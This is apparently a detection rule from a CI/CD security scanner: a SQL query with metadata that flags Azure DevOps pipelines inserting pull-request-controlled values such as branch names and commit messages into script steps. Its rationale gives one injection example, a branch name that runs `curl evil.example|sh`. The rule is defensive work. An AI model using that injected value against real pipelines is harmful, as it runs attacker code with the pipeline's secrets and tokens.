/*
id: yaml.script_injection
title: Pull-request-controlled values are pasted into scripts
severity: high
resource_type: build_definitions
description: >
  A YAML pipeline's script step (script, bash, pwsh, powershell, or the inline script of a task such as
  PowerShell@2, Bash@3 or AzureCLI@2) contains a macro or template expression whose value the author of a
  branch, commit or pull request chooses: the source branch, the commit message or the pull request's source.
rationale: >
  Macros and template expressions are replaced in the script's text before the shell runs it, so a branch
  named `x";curl evil.example|sh;"` becomes code running with the job's token, secrets and service connections
  (the same concern as poutine's `injection` rule; Checkov's Azure Pipelines checks do not look at it).
remediation: >
  Pass the value through an environment variable (`env: BRANCH: $(Build.SourceBranchName)`, then "$BRANCH" in
  the script, quoted) instead of writing the macro into the script, or validate it against a strict pattern
  first.
anchors:
  owasp: [CICD-SEC-4]
params:
  untrusted_pattern: '(?i)(\$\(\s*|\$\[\s*variables\[\s*''|variables\[\s*''|variables\.)(Build\.SourceBranchName|Build\.SourceBranch|Build\.SourceVersionMessage|System\.PullRequest\.(SourceBranch|SourceRepositoryURI|TargetBranchName|TargetBranch))'
requires: [pipeline_yaml_elements]
*/
WITH hits AS (
    SELECT *, location || ' (' || regexp_extract(value, $untrusted_pattern, 2) || ')' AS detail
    FROM azure_devops.pipeline_yaml_elements
    WHERE kind = 'script'
      AND regexp_matches(coalesce(value, ''), $untrusted_pattern)
)
SELECT * EXCLUDE (details),
       'Pipeline "' || resource_name || '" puts pull-request-controlled values into scripts at '
           || array_to_string(details, ', ') AS message
FROM yaml_pipeline_findings(hits)
